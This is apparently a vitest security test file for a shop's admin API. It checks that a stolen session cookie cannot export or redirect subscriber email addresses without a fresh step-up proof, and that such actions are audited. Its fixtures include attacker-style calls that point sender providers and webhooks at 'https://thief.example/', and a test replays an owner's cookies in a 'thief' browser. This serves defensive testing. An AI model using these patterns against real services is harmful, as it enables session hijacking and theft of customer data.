import { expect, test } from "vitest";
import { look } from "./fixtures/database.ts";
import { aBrowser, aMember, type Browser, stepUpByPassword } from "./fixtures/members.ts";
import { anEmail, aService, aStore } from "./fixtures/service.ts";
import { good } from "./fixtures/shopper-lists.ts";
import { aProduct, subscribeAs } from "./fixtures/subscription-calls.ts";

const service = aService();

/** Every way in which addresses leave the service, with the answers as one text. */
async function exportAll(browser: Browser, email: string, stepUp?: string) {
  const csv = { headers: { accept: "text/csv" }, stepUp };
  const line = { epi: "1", topic: "backinstock" };
  const pages = await browser.call("/storeadmin/v3/lines", { query: line, stepUp });
  const [{ person } = { person: "" }] = pages.body["items"] as { person: string }[];
  const answers = [
    pages,
    await browser.call("/storeadmin/v3/lines", { query: line, ...csv }),
    await browser.call("/storeadmin/v3/people", { query: { address: "nobody@example.com" }, stepUp }),
    await browser.call("/storeadmin/v3/people", { query: { address: email }, ...csv }),
    await browser.call("/storeadmin/v3/people/one", { query: { person }, stepUp }),
    await browser.call("/storeadmin/v3/people/reveal", { json: { person }, stepUp }),
    await browser.call("/storeadmin/v3/people/export", { json: { email }, stepUp }),
  ];
  return { statuses: answers.map(({ status }) => status), texts: answers.map(({ text }) => text) };
}

/** Calls that send addresses to a host of the caller's choice, or hand out a secret. */
const BY_OTHER_ROADS: readonly [path: string, json?: object][] = [
  ["senders/set", { medium: "email", provider: "http", http: { url: "https://thief.example/", secret: "s3cret" } }],
  ["senders/remove", { medium: "email" }],
  ["senders/hooks"],
  ["alerts/send", { epi: "1", topic: "backinstock" }],
  ["alerts/resume", { plan: "1" }],
  ["keys/create", { name: "thief" }],
  ["keys/rotate", { id: "thief" }],
  ["keys/revoke", { id: "thief" }],
  ["webhooks/create", { url: "https://thief.example/" }],
  ["webhooks/update", { endpoint: "1", url: "https://thief.example/" }],
  ["webhooks/rotate-secret", { endpoint: "1" }],
  ["webhooks/replay", { endpoint: "1", fromNumber: "1" }],
];

/** How each of them was refused; null when it was not asked for a fresh proof. */
const refusalsOf = (browser: Browser, stepUp?: string) =>
  Promise.all(
    BY_OTHER_ROADS.map(async ([path, json]) => {
      const { body } = await browser.call(`/storeadmin/v3/${path}`, { json, stepUp });
      return [path, body["type"] === "step-up-needed" ? body["type"] : null];
    }),
  );

test("a stolen cookie sends addresses nowhere: providers, webhooks, keys and mass sends need a fresh proof", async () => {
  const store = await aStore(service, { scopes: ["admin"] });
  const owner = await aMember(service, store, "owner");
  const stepUp = await stepUpByPassword(owner);
  expect(await refusalsOf(owner)).toEqual(BY_OTHER_ROADS.map(([path]) => [path, "step-up-needed"]));
  expect(await refusalsOf(owner, stepUp), "control: with a proof").toEqual(
    BY_OTHER_ROADS.map(([path]) => [path, null]),
  );
});

test("who sees the webhook addresses of providers is in the audit log, and a new provider is told to the members", async () => {
  const mailing = aService({
    env: { KEEPSAKE_SMTP_URL: "smtp://127.0.0.1:1", KEEPSAKE_MAIL_FROM: "shop@example.com" },
  });
  const store = await aStore(mailing);
  const [owner, viewer] = [await aMember(mailing, store, "owner"), await aMember(mailing, store, "viewer")];
  const stepUp = await stepUpByPassword(owner);
  expect((await owner.call("/storeadmin/v3/senders/hooks", { stepUp })).status).toBe(200);
  const set = { medium: "sms", provider: "http", http: { url: "https://sms.example/send", secret: "s3cret" } };
  expect((await owner.call("/storeadmin/v3/senders/set", { json: set, stepUp })).status).toBe(200);
  const { body } = await owner.call("/storeadmin/v3/audit", { query: { action: "sender.hooks-shown" } });
  expect(body["items"]).toMatchObject([{ actor: { kind: "member", id: owner.email } }]);
  const told = await look<{ to_email: string; subject: string; text_body: string }>(
    "select to_email, subject, text_body from mails where store_id = $1 and kind = 'member' and to_email in ($2, $3)",
    [store.id, owner.email, viewer.email],
  );
  expect(told).toEqual([
    {
      to_email: owner.email,
      subject: "A test's store: The provider was changed",
      text_body: expect.stringContaining(
        `${owner.email} changed the provider of the shop's text messages: it is now sms.example`,
      ),
    },
  ]);
});

test("a stolen cookie exports nothing: addresses are masked, and lists as CSV, reveals and exports need a fresh proof", async () => {
  const store = await aStore(service, { scopes: ["admin"] });
  const email = anEmail();
  good(await subscribeAs(store, email, [aProduct(1)]));
  const owner = await aMember(service, store, "owner");
  const stepUp = await stepUpByPassword(owner);
  const thief = aBrowser(service);
  for (const [name, value] of owner.jar) thief.jar.set(name, value);
  await thief.me();

  const stolen = await exportAll(thief, email);
  expect(stolen.statuses).toEqual([200, 403, 200, 403, 200, 403, 403]);
  expect(stolen.texts.filter((text) => text.includes(email))).toEqual([]);

  // Control: the owner gets the address in each way that shows this person.
  const own = await exportAll(owner, email, stepUp);
  expect(own.statuses).toEqual([200, 200, 200, 200, 200, 200, 200]);
  expect(own.texts.map((text) => text.includes(email))).toEqual([true, true, false, true, true, true, true]);
  const { body } = await owner.call("/storeadmin/v3/audit");
  const entries = body["items"] as { action: string; details: Record<string, unknown> }[];
  const shown = entries
    .filter(({ action }) => /^(people|person)\./.test(action))
    .map(({ action, details }) => [action, details["read"]]);
  expect(shown.toReversed(), "only what the owner saw").toEqual([
    ["people.shown", "lines"],
    ["people.exported", undefined],
    ["people.exported", undefined],
    ["people.shown", "people/one"],
    ["person.revealed", undefined],
    ["person.exported", undefined],
  ]);
});
